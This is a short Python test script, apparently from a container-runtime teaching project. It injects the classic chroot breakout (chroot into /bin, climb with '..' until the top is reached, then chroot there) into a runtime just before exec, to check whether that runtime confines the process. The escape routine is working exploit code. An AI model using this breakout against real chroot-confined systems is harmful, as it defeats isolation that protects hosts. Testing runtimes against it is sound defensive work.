"""The classic way out of a chroot, tried on a runtime.

    python3 escape.py chroot ROOTFS CMD [ARG...]     the runtime chroot.py, beside this file
    python3 escape.py runtime ROOTFS CMD [ARG...]    the runtime runtime.py

The attack stands in for the program (a small ROOTFS has no Python to run it): the runtime
prepares the process and does everything but exec. Then the attack, and then CMD: of the host,
or still of ROOTFS?
"""

import importlib
import os
import sys


def main():
    match sys.argv[1:]:
        case [name, rootfs, *command] if command:
            runtime = importlib.import_module(name.removesuffix(".py"))
            become = runtime.execute
            runtime.execute = lambda program: (escape(), become(program))
            sys.exit(runtime.run(rootfs, *command))
        case _:
            sys.exit("usage: escape.py chroot|runtime ROOTFS CMD [ARG...]")


# [escape]
def escape():
    """chroot(2) moves the root but not the working directory; ".." stops at the root only."""
    os.chroot("/bin")  # the root is now below the working directory: we stand outside of it
    steps = 0
    while not os.path.samefile(".", ".."):
        os.chdir("..")  # the root is not on the way up any more, so nothing stops us
        steps += 1
    os.chroot(".")  # the top of this mount namespace
    print(f"{steps} steps up; / has: {' '.join(sorted(os.listdir('/')))}", file=sys.stderr)
    # [/escape]


if __name__ == "__main__":
    main()
